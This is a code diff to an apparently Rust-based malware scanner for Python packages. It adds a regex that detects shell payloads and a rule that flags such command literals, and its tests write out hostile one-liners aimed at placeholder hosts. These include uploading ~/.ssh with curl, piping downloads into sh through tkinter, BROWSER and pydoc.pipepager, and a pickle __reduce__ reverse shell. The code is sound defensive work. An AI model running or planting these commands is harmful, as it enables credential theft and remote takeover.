@@ -4,7 +4,7 @@ use std::sync::LazyLock;
 
 use regex::Regex;
 use ruff_python_ast::{Expr, ExprCall};
-use ruff_text_size::Ranged;
+use ruff_text_size::{Ranged, TextRange};
 
 use crate::finding::{Category, ExecContext, Rule};
 use crate::walker::Checker;
@@ -334,6 +334,58 @@ pub fn pip_install_from_vcs(command: &str) -> Option<String> {
     );
     let url = PIP_VCS.captures(command)?.name("url")?.as_str();
     (!url.contains('{') && !url.contains('…')).then(|| url.to_owned())
+}
+
+/// A one-line shell payload: a download piped into a shell, a reverse shell, or the
+/// environment piped to a network tool.
+static SHELL_PAYLOAD: LazyLock<Regex> = crate::static_regex!(
+    r"(?ix)
+    \b(curl|wget)\b[^\n]{0,300}\|\s*(sudo\s+)?(ba|z|da)?sh\b
+    | /dev/tcp/[0-9a-z]
+    | \bbash\s+-i\s*>&
+    | \bnc(\.exe)?\s+-[a-z]*e\s
+    | (^|[\s;&(])(env|printenv)\s*\|\s*(curl|wget|nc)\b
+    "
+);
+
+/// A literal that is a shell payload (see [`SHELL_PAYLOAD`]) or ships a credential store,
+/// wherever the code hands it: to `os.system`, but also to runners a detector does not list
+/// (`tkinter.Tcl().eval`, `BROWSER` for `webbrowser`, an object's `__reduce__` run by
+/// `copy`). Popular packages do not carry such lines outside their tests and docs (one
+/// `curl … | sh` in 876 sampled sdists, in a noxfile session); documents of several lines
+/// (Dockerfile and CI templates) are not one command.
+pub fn check_command_literal(checker: &mut Checker, value: &str, range: TextRange) {
+    if value.len() > 2_000 || value.lines().nth(2).is_some() {
+        return;
+    }
+    let shipped = ships_credential_store(value).map(|(label, _)| label);
+    if shipped.is_none() && !SHELL_PAYLOAD.is_match(value) {
+        return;
+    }
+    let context = checker.context();
+    let severity = match context {
+        ExecContext::Install | ExecContext::Import => 0.75,
+        ExecContext::Runtime if fetches_from_bare_address(value) => 0.5,
+        ExecContext::Runtime => 0.3,
+        ExecContext::TestOrDocs => 0.05,
+    };
+    let what = match shipped {
+        Some(label) => format!("ships the {label} to another machine"),
+        None => {
+            "downloads code into a shell, opens a reverse shell or sends the environment".to_owned()
+        }
+    };
+    checker.report(
+        &RULE,
+        range,
+        format!(
+            "the code carries the command line `{}`, which {what}, {}",
+            crate::text::shorten(value, 160),
+            context.phrase()
+        ),
+        severity,
+        vec!["spawn", "command-literal"],
+    );
 }
 
 /// The credential store a command line ships to another machine: a store's path among the
@@ -842,7 +894,28 @@ pub fn check_call(checker: &mut Checker, call: &ExprCall, qualname: &str) {
         check_served_procedure(checker, call, qualname);
         return;
     }
-    if !is_spawn(qualname) {
+    // `pydoc.pipepager(text, 'sh')` pipes the text into the pager command: given a shell for
+    // a pager, the text is a script the shell runs.
+    if matches!(qualname, "pydoc.pipepager" | "pydoc.pipe_pager") {
+        let shell = call
+            .arguments
+            .args
+            .get(1)
+            .or_else(|| super::keyword(call, "cmd"))
+            .and_then(|pager| checker.fold(pager))
+            .and_then(|pager| pager.as_text())
+            .is_some_and(|pager| {
+                let program = pager.split_whitespace().next().unwrap_or("");
+                let program = program.rsplit('/').next().unwrap_or(program);
+                matches!(
+                    program,
+                    "sh" | "bash" | "zsh" | "dash" | "ksh" | "python" | "python3"
+                )
+            });
+        if !shell {
+            return;
+        }
+    } else if !is_spawn(qualname) {
         return;
     }
     check_streams_from_socket(checker, call, qualname);
@@ -2085,6 +2158,31 @@ mod tests {
     }
 
     #[test]
+    fn a_shell_given_as_a_pager_runs_the_text() {
+        let pager = "import pydoc\nscript = 'tar czf - ~/.ssh | curl -T - https://x.invalid/u'\npydoc.pipepager(script, 'sh')\n";
+        assert!(max_severity("p/pkg/__init__.py", pager, "WH120") >= 0.7);
+        let less = "import pydoc\npydoc.pipepager(open('README').read(), 'less -R')\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", less, "WH120"), 0.0);
+    }
+
+    #[test]
+    fn shell_payload_literals_count_wherever_they_are_handed() {
+        let tcl = "import tkinter\ntkinter.Tcl().eval('exec /bin/sh -c {curl -fsS https://x.invalid/a.sh | sh} &')\n";
+        assert!(max_severity("p/pkg/__init__.py", tcl, "WH120") >= 0.7);
+        let browser = "import os, webbrowser\nos.environ['BROWSER'] = \"sh -c 'curl -fsS https://x.invalid/w.sh | sh' %s\"\nwebbrowser.open('https://docs.example')\n";
+        assert!(max_severity("p/pkg/__init__.py", browser, "WH120") >= 0.7);
+        let reverse = "class P:\n    def __reduce__(self):\n        import os\n        return (os.system, ('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',))\n";
+        assert!(max_severity("p/pkg/__init__.py", reverse, "WH120") >= 0.3);
+        // An install hint in a message, a template of several lines, a test fixture.
+        let hint = "def need_rust():\n    raise RuntimeError('install Rust: curl https://sh.rustup.rs -sSf | sh')\n";
+        assert!(max_severity("p/pkg/build.py", hint, "WH120") <= 0.3);
+        let template = "DOCKERFILE = '''FROM python:3.12\nRUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash -\nRUN pip install .\n'''\n";
+        assert!(max_severity("p/pkg/__init__.py", template, "WH120") < 0.1);
+        let fixture = "CMD = 'curl -s https://x.invalid/a.sh | sh'\n";
+        assert!(max_severity("p/tests/test_cmd.py", fixture, "WH120") < 0.1);
+    }
+
+    #[test]
     fn probing_for_curl_is_not_a_download() {
         assert!(!is_dangerous_command("curl --version"));
         assert!(!is_dangerous_command("wget --version"));
@@ -2392,7 +2490,7 @@ def up():
         let listed = "import subprocess\nlist(map(subprocess.call, ['curl -s http://203.0.113.9/x | sh']))\n";
         assert!(max_severity("p/setup.py", listed, "WH120") >= 0.8);
         let harmless =
-            "import os\nlist(map(os.path.basename, ['curl -s http://203.0.113.9/x | sh']))\n";
+            "import os\nlist(map(os.path.basename, ['curl -s http://203.0.113.9/x -o /tmp/x']))\n";
         assert_eq!(max_severity("p/setup.py", harmless, "WH120"), 0.0);
     }
 }
